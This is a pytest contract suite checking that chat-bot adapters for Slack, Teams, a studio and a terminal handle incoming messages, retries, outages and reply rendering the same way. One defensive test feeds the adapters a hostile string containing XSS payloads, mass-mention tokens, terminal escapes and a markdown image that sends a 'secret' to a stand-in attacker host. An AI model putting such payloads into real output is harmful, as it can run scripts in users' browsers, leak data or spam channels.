"""What every adapter promises, whatever the platform: one suite, run on each of them."""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable

import pytest

from bot.domain.errors import ConfigError, PlatformUnavailable, Refused
from bot.domain.events import Address, MessageReceived, PostedMessage
from bot.domain.prompts import Image
from bot.domain.turns import Reply
from tests.adapters.studio.conftest import red_picture
from tests.contracts.on_slack import OnSlack
from tests.contracts.on_studio import OnStudio
from tests.contracts.on_teams import OnTeams
from tests.contracts.on_terminal import OnTerminal
from tests.contracts.platform import Platform
from tests.support.patience import PATIENCE_S

PLATFORMS: dict[str, Callable[[], Platform]] = {
    "slack": OnSlack,
    "teams": OnTeams,
    "studio": OnStudio,
    "terminal": OnTerminal,
}
BY_HTTP = [name for name in PLATFORMS if name != "terminal"]
IN_PLACE = BY_HTTP


@pytest.fixture(params=[*PLATFORMS])
async def platform(request: pytest.FixtureRequest) -> AsyncIterator[Platform]:
    async with PLATFORMS[request.param]() as running:
        yield running


by_http = pytest.mark.parametrize("platform", BY_HTTP, indirect=True)
in_place = pytest.mark.parametrize("platform", IN_PLACE, indirect=True)


async def asked(platform: Platform, text: str = "hello", number: int = 1) -> MessageReceived:
    await platform.say(text, number)
    return (await platform.self_service.received())[-1]


async def answer(platform: Platform, address: Address, *growing: str, reply: Reply) -> PostedMessage:
    post = await platform.adapter.open(address, None, retry=False)
    for text in growing:
        assert await platform.adapter.update(post, text)
    return await platform.adapter.close(post, reply)


async def text_shown(platform: Platform) -> str:
    return "\n".join(await platform.shown())


# ------------------------------------------------------------------ what comes in


async def test_a_message_becomes_an_event(platform: Platform) -> None:
    received = await asked(platform, "What is the capital of France?")
    assert len(platform.self_service.events) == 1
    assert received.text == "What is the capital of France?"
    assert received.user.id
    assert received.user.tenant
    assert received.address.conversation.startswith(f"{platform.adapter.name}:")
    assert received.address.adapter == platform.adapter.name
    assert received.address.event == received.id
    assert received.at.utcoffset() is not None


async def test_a_command_is_its_words(platform: Platform) -> None:
    assert (await asked(platform, "/image a red bicycle")).text == "/image a red bicycle"


@by_http
async def test_every_delivery_is_the_same_event(platform: Platform) -> None:
    await platform.say("once", 1)
    await platform.say("once", 1)
    await platform.say("once", 2)
    first, again, other = await platform.self_service.received(3)
    assert again.id == first.id
    assert again.address.conversation == first.address.conversation
    assert other.id != first.id


@by_http
async def test_a_message_is_stored_before_it_is_acknowledged(platform: Platform) -> None:
    status = await platform.say("hello")
    platform.self_service.order.append("thanked")
    assert 200 <= status < 300
    assert platform.self_service.order == ["asked to write down", "written down", "thanked"]


@by_http
async def test_without_storage_the_platform_keeps_the_message(platform: Platform) -> None:
    platform.self_service.away = True
    assert await platform.say("hello") == 503
    platform.self_service.away = False
    assert 200 <= await platform.say("hello") < 300
    first, again = await platform.self_service.received(2)
    assert first.id == again.id


async def test_a_busy_conversation_is_said_so(platform: Platform) -> None:
    platform.self_service.receipt = "busy"
    if await platform.say("one too many") == 429:  # the page itself says so, beside the words that it keeps
        return
    async with asyncio.timeout(PATIENCE_S):
        while not (await text_shown(platform)).strip():  # noqa: ASYNC110 - platforms tell by different signs
            await asyncio.sleep(0.01)


@by_http
async def test_a_malformed_body_is_refused(platform: Platform) -> None:
    assert await platform.deliver(b'{"half of a') == 400
    assert platform.self_service.events == []


@by_http
async def test_an_oversized_body_is_refused(platform: Platform) -> None:
    assert await platform.deliver(b'{"text": "' + b"x" * 3_000_000 + b'"}') == 413
    assert platform.self_service.events == []


@by_http
async def test_an_unsigned_body_is_refused(platform: Platform, caplog: pytest.LogCaptureFixture) -> None:
    assert await platform.deliver(b'{"text": "xyzzy"}', signed=False) == 401
    assert platform.self_service.events == []
    assert "xyzzy" not in caplog.text


# ------------------------------------------------------------------ what goes out


async def test_the_whole_answer_is_shown_once(platform: Platform) -> None:
    received = await asked(platform)
    await answer(
        platform, received.address, "alpha-1", "alpha-1 beta-2", reply=Reply(text="alpha-1 beta-2 gamma-3")
    )
    text = await text_shown(platform)
    assert [text.count(word) for word in ("alpha-1", "beta-2", "gamma-3")] == [1, 1, 1]


async def test_an_answer_that_never_grew_is_shown_too(platform: Platform) -> None:
    received = await asked(platform)
    await answer(platform, received.address, reply=Reply(text="alpha-1"))
    assert (await text_shown(platform)).count("alpha-1") == 1


async def test_closing_again_shows_nothing_twice(platform: Platform) -> None:
    received = await asked(platform)
    post = await answer(platform, received.address, reply=Reply(text="alpha-1"))
    await platform.adapter.close(post, Reply(text="alpha-1"))
    assert (await text_shown(platform)).count("alpha-1") == 1


async def test_a_failing_platform_never_breaks_an_update(platform: Platform) -> None:
    received = await asked(platform)
    post = await platform.adapter.open(received.address, None, retry=False)
    platform.outage(True)
    for text in ("alpha-1", "alpha-1 beta-2", "alpha-1 beta-2 gamma-3"):
        await platform.adapter.update(post, text)
    platform.outage(False)


@in_place
async def test_an_answer_survives_temporary_platform_errors(platform: Platform) -> None:
    received = await asked(platform)
    post = await platform.adapter.open(received.address, None, retry=False)
    platform.outage(True)
    await platform.adapter.update(post, "alpha-1")
    with pytest.raises(PlatformUnavailable):
        await platform.adapter.close(post, Reply(text="alpha-1 beta-2"))
    platform.outage(False)
    await platform.adapter.close(post, Reply(text="alpha-1 beta-2"))
    text = await text_shown(platform)
    assert (text.count("alpha-1"), text.count("beta-2")) == (1, 1)


@pytest.mark.parametrize("kind", [OnSlack, OnTeams])
async def test_permanent_platform_errors_are_config_errors(
    kind: type[OnSlack | OnTeams],
) -> None:
    async with kind() as platform:
        await platform.say("hello")
        received = (await platform.self_service.received())[-1]
        begun = await platform.adapter.open(received.address, None, retry=False)
        await platform.adapter.update(begun, "alpha-1")
        platform.refuse()
        with pytest.raises((PlatformUnavailable, ConfigError)):
            await platform.adapter.close(begun, Reply(text="alpha-1 beta-2"))
        asked: list[Awaitable[object]] = [
            platform.adapter.open(received.address, None, True),
            platform.adapter.context(received.address),
        ]
        for outcome in await asyncio.gather(*asked, return_exceptions=True):
            if isinstance(outcome, BaseException):
                assert isinstance(outcome, PlatformUnavailable | ConfigError | Refused)


@in_place
async def test_a_link_that_leads_nowhere_is_explained(platform: Platform) -> None:
    """Field fault 46: the person is told, or the platform has no links to messages."""
    received = await asked(platform)
    for link in ("https://example.com", "https://a.slack.com/archives/C0NOWHERE/p1700000000000100", "x"):
        (found,) = await asyncio.gather(
            platform.adapter.linked(received.address, link), return_exceptions=True
        )
        assert found == () or (isinstance(found, Refused) and str(found).endswith(".")), "a whole sentence"


@in_place
async def test_another_process_completes_an_answer(platform: Platform) -> None:
    """Field note 10."""
    received = await asked(platform)
    begun = await platform.adapter.open(received.address, None, retry=False)
    await platform.adapter.update(begun, "alpha-1")
    other = await platform.another()
    try:
        post = await other.open(received.address, begun, retry=True)
        await other.update(post, "alpha-1 be")
        await other.close(post, Reply(text="alpha-1 beta-2"))
    finally:
        await other.__aexit__(None, None, None)
    text = await text_shown(platform)
    assert (text.count("alpha-1"), text.count("beta-2")) == (1, 1)


async def test_two_answers_at_once_do_not_mix(platform: Platform) -> None:
    received = await asked(platform)
    second = Address(
        conversation=received.address.conversation, event=f"{received.id}2", data=received.address.data
    )
    if platform.completes:
        second = (await asked(platform, "another", 2)).address
    posts = [await platform.adapter.open(each, None, retry=False) for each in (received.address, second)]
    assert posts[0].id != posts[1].id
    await asyncio.gather(
        platform.adapter.close(posts[0], Reply(text="alpha-1")),
        platform.adapter.close(posts[1], Reply(text="beta-2")),
    )
    text = await text_shown(platform)
    assert (text.count("alpha-1"), text.count("beta-2")) == (1, 1)


async def test_a_very_long_answer_is_complete(platform: Platform) -> None:
    """Field note 14."""
    received = await asked(platform)
    words = [f"word-{number:05d}" for number in range(9000)]
    paragraphs = [" ".join(words[at : at + 60]) for at in range(0, len(words), 60)]
    await answer(platform, received.address, paragraphs[0], reply=Reply(text="\n\n".join(paragraphs)))
    text = await text_shown(platform)
    assert [word for word in words if text.count(word) != 1] == []


async def test_code_stays_code(platform: Platform) -> None:
    """Field note 14."""
    received = await asked(platform)
    code = "def ask():\n    if True:\n        return 'x_y_z' * 2"
    await answer(
        platform, received.address, reply=Reply(text=f"Like this:\n\n```python\n{code}\n```\n\nDone-9.")
    )
    text = await text_shown(platform)
    assert code in text
    assert "Done-9" in text


async def test_pictures_are_shown_with_their_descriptions(platform: Platform) -> None:
    received = await asked(platform, "/image a red bicycle")
    picture = Image(mime="image/png", data=red_picture(), alt="a red bicycle")
    post = await answer(platform, received.address, reply=Reply(text="Here it is.", images=(picture,)))
    assert await platform.pictures() == ["a red bicycle"]
    await platform.adapter.close(post, Reply(text="Here it is.", images=(picture,)))
    assert await platform.pictures() == ["a red bicycle"]


async def test_model_output_is_harmless(platform: Platform) -> None:
    """Field note 16."""
    received = await asked(platform)
    hostile = (
        "safe-1 <script>alert(1)</script> <!channel> <!here|here> @here @channel @everyone <@U0000001> "
        "<!subteam^S1> <at>Everyone</at> <img src=x onerror=alert(1)> "
        "![see](https://evil.example/?q=secret) \x1b[2J\x07 `<!channel>` safe-2"
    )
    await answer(platform, received.address, hostile, reply=Reply(text=hostile))
    text = await text_shown(platform)
    assert "safe-1" in text
    assert "safe-2" in text
    assert await platform.harm() == []


async def test_check_says_something_and_never_raises(platform: Platform) -> None:
    platform.outage(True)
    findings = await platform.adapter.check()
    platform.outage(False)
    assert all(finding.words for finding in findings)
